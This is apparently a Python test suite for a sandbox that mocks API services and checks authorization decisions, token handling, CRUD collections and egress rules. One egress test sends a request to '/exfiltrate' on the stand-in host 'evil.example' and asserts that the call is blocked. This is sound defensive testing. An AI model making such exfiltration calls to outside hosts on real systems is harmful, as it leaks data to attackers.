from __future__ import annotations

from typing import Any

from workspaces import HOST, build, policy, service

from harness.calls import Request
from harness.sandbox import Sandbox


def _sandbox(grants: list[str], **options: Any) -> Sandbox:
    spec_options = options.pop("spec", {})
    workspace = build([service(**spec_options)], [policy(grants, [("GET", "/items")], **options)])
    return Sandbox(workspace)


def _call(
    sandbox: Sandbox,
    method: str,
    path: str,
    token: str | None = None,
    host: str = HOST,
    json: Any = None,
) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return sandbox.handle(Request(method, f"https://{host}{path}", headers, json))


def test_an_allowed_call_records_the_rule_and_the_grants_that_allowed_it() -> None:
    sandbox = _sandbox(["svc.write"])
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    response = _call(sandbox, "GET", "/items", token)
    assert response.status == 200
    decision = sandbox.decisions[-1]
    assert (decision.identity, decision.binding, decision.environment) == (
        "bot",
        "bot@prod",
        "prod",
    )
    assert (decision.operation, decision.outcome, decision.rule) == (
        "items.list",
        "allowed",
        "scope",
    )
    assert decision.satisfied_by == ("svc.write",)
    assert decision.scopes == ("svc.write",)
    assert decision.rule_location == "<service 0>:1:1"


def test_a_denial_names_the_operation_and_requirement_rfc6750_style() -> None:
    sandbox = _sandbox(["svc.read"])
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    response = _call(sandbox, "DELETE", "/items/i1", token)
    assert response.status == 403
    assert (
        response.header("WWW-Authenticate")
        == 'Bearer error="insufficient_scope", scope="svc.delete"'
    )
    assert response.json == {
        "error": "insufficient_scope",
        "operation": "svc:items.delete",
        "required": [["svc.delete"]],
        "message": "svc:items.delete requires svc.delete",
    }
    assert sandbox.decisions[-1].reason == "requires svc.delete; granted: svc.read"


def test_an_opaque_service_answers_a_bare_403() -> None:
    sandbox = _sandbox(["svc.read"], spec={"opaque": True})
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    response = _call(sandbox, "DELETE", "/items/i1", token)
    assert (response.status, response.json, response.headers) == (403, None, ())
    assert sandbox.decisions[-1].outcome == "denied"


def test_missing_expired_and_foreign_tokens_are_401() -> None:
    sandbox = _sandbox(["svc.read"], lifetime="5m")
    assert _call(sandbox, "GET", "/items").status == 401
    assert sandbox.decisions[-1].reason == "no bearer token was sent"
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    sandbox.clock.advance(300)
    response = _call(sandbox, "GET", "/items", token)
    assert response.status == 401
    assert "expired" in response.header("WWW-Authenticate")
    decision = sandbox.decisions[-1]
    assert (decision.identity, decision.rule, decision.reason) == (
        "bot",
        "token",
        "the token expired 0s ago",
    )
    other = Sandbox(sandbox.workspace).issue_token(sandbox.workspace.bindings[0])
    assert _call(sandbox, "GET", "/items", other).status == 401


def test_calls_outside_the_allowed_hosts_or_to_unknown_hosts_are_blocked() -> None:
    sandbox = _sandbox(["svc.read"], allowed_hosts=["other.example"])
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    response = _call(sandbox, "GET", "/items", token)
    assert response.blocked
    assert sandbox.decisions[-1].rule == "egress.host"
    assert "not in the allowed hosts of connector bot" in sandbox.decisions[-1].reason
    response = _call(sandbox, "GET", "/exfiltrate", token, host="evil.example")
    assert response.blocked
    assert sandbox.decisions[-1].reason.startswith("no mocked service answers on evil.example")


def test_cross_region_calls_are_blocked() -> None:
    spec = service(regions={HOST: "us"})
    data = policy(["svc.read"], [("GET", "/items")])
    data["connectors"][0]["regions"] = ["eu"]
    sandbox = Sandbox(build([spec], [data]))
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    assert _call(sandbox, "GET", "/items", token).blocked
    assert sandbox.decisions[-1].rule == "egress.region"


def test_stateful_collections_create_read_update_delete() -> None:
    operations = [
        {
            "id": "c",
            "method": "POST",
            "path": "/items",
            "requires": "svc.write",
            "answer": {"collection": "items", "action": "create"},
        },
        {
            "id": "r",
            "method": "GET",
            "path": "/items/{id}",
            "requires": "svc.read",
            "answer": {"collection": "items", "action": "read", "id": "id"},
        },
        {
            "id": "u",
            "method": "PATCH",
            "path": "/items/{id}",
            "requires": "svc.write",
            "answer": {"collection": "items", "action": "update", "id": "id"},
        },
        {
            "id": "d",
            "method": "DELETE",
            "path": "/items/{id}",
            "requires": "svc.write",
            "answer": {"collection": "items", "action": "delete", "id": "id"},
        },
        {
            "id": "l",
            "method": "GET",
            "path": "/items",
            "requires": "svc.read",
            "answer": {"collection": "items", "action": "list"},
        },
    ]
    spec = service(
        operations=operations,
        collections={"items": {"id_prefix": "i_", "seed": [{"id": "i_1", "n": 1}]}},
    )
    sandbox = Sandbox(build([spec], [policy(["svc.write"], [("GET", "/items")])]))
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    created = _call(sandbox, "POST", "/items", token, json={"n": 2})
    assert (created.status, created.json) == (201, {"n": 2, "id": "i_2"})
    assert _call(sandbox, "PATCH", "/items/i_2", token, json={"n": 3}).json == {"n": 3, "id": "i_2"}
    assert _call(sandbox, "GET", "/items", token).json == {
        "items": [{"id": "i_1", "n": 1}, {"n": 3, "id": "i_2"}]
    }
    assert _call(sandbox, "DELETE", "/items/i_1", token).status == 204
    assert _call(sandbox, "GET", "/items/i_1", token).status == 404
    sandbox.reset()
    assert _call(sandbox, "GET", "/items/i_1", token).status == 200


def test_public_operations_need_no_token() -> None:
    operations = [
        {
            "id": "health",
            "method": "GET",
            "path": "/health",
            "requires": "none",
            "answer": {"static": {"status": 200, "json": {"ok": True}}},
        }
    ]
    sandbox = Sandbox(build([service(operations=operations)], [policy([], [("GET", "/health")])]))
    response = _call(sandbox, "GET", "/health")
    assert (response.status, response.json) == (200, {"ok": True})
    assert sandbox.decisions[-1].rule == "public"


def test_a_narrowed_grant_finds_its_resource_in_a_json_or_a_form_body() -> None:
    post = {
        "id": "messages.post",
        "method": "POST",
        "path": "/messages",
        "requires": "svc.write",
        "resources": {"channel": "body.channel"},
    }
    workspace = build(
        [service(operations=[post])], [policy(["svc.write@channel=C1"], [("POST", "/messages")])]
    )
    sandbox = Sandbox(workspace)
    token = sandbox.issue_token(sandbox.workspace.bindings[0])
    url = f"https://{HOST}/messages"
    form = {"Authorization": f"Bearer {token}", "Content-Type": "application/x-www-form-urlencoded"}
    calls = [
        Request("POST", url, {"Authorization": f"Bearer {token}"}, {"channel": "C1"}),
        Request("POST", url, form, content=b"channel=C1&text=hello"),
        Request("POST", url, form, content=b"channel=C2&text=hello"),
        Request("POST", url, {**form, "Content-Type": "text/plain"}, content=b"channel=C1"),
    ]
    assert [sandbox.handle(call).status for call in calls] == [200, 200, 403, 403]
    assert [d.resources for d in sandbox.decisions] == [
        (("channel", "C1"),),
        (("channel", "C1"),),
        (("channel", "C2"),),
        (),
    ]


def test_an_authenticated_operation_needs_a_token_but_no_scope() -> None:
    operations = [
        {"id": "me.get", "method": "GET", "path": "/me", "requires": "authenticated"},
        {"id": "items.list", "method": "GET", "path": "/items", "requires": "svc.read"},
    ]
    workspace = build([service(operations=operations)], [policy([], [("GET", "/me")])])
    sandbox = Sandbox(workspace)
    token = sandbox.issue_token(workspace.bindings[0])
    assert _call(sandbox, "GET", "/me").status == 401  # no token
    assert _call(sandbox, "GET", "/me", token).status == 200  # no scope needed
    assert _call(sandbox, "GET", "/items", token).status == 403
    anonymous, allowed, _ = sandbox.decisions
    assert (anonymous.outcome, anonymous.rule) == ("denied", "token")
    assert (allowed.outcome, allowed.satisfied_by) == ("allowed", ())
    assert allowed.reason == "requires a valid token (any scopes)"


def test_a_token_may_come_as_a_parameter_the_service_accepts() -> None:
    standard = _sandbox(["svc.read"])
    token = standard.issue_token(standard.workspace.bindings[0])
    assert _call(standard, "GET", f"/items?access_token={token}").status == 200  # RFC 6750
    assert _call(standard, "GET", f"/items?token={token}").status == 401
    slack_like = _sandbox(["svc.read"], spec={"token_params": ["token"]})
    token = slack_like.issue_token(slack_like.workspace.bindings[0])
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    url = f"https://{HOST}/items"
    assert (
        slack_like.handle(Request("GET", url, form, content=f"token={token}".encode())).status
        == 200
    )
    assert _call(slack_like, "GET", f"/items?access_token={token}").status == 401
    # the Authorization header comes first: a stale parameter beside it changes nothing
    assert _call(slack_like, "GET", "/items?token=stale", token).status == 200
